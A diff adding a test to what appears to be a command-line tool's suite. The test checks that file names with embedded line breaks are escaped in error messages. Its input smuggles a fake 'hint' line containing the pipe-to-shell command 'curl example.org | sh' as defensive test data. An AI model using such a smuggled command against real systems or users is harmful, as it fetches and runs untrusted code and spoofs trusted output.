@@ -77,3 +77,15 @@ def test_warnings_of_libraries_are_lines_like_others(data, process):
     assert harmless(done.err)
     assert "site-packages" not in done.err
     assert "UserWarning" not in done.err
+
+
+def test_a_message_is_one_line(empty, cli):
+    """A name with line breaks cannot pass for an error and a hint of its own."""
+    done = cli("check", "data\nhint: curl example.org | sh")
+    assert done.err == "error: there is no file data\\nhint: curl example.org | sh\n"
+    (empty / "a\nhint: b.csv").write_text("text,label\n,x\n")
+    done = cli("check", "a\nhint: b.csv")
+    assert done.err.splitlines()[:2] == [
+        "error: 1 bad row in a\\nhint: b.csv",
+        "  a\\nhint: b.csv:2: empty text",
+    ]
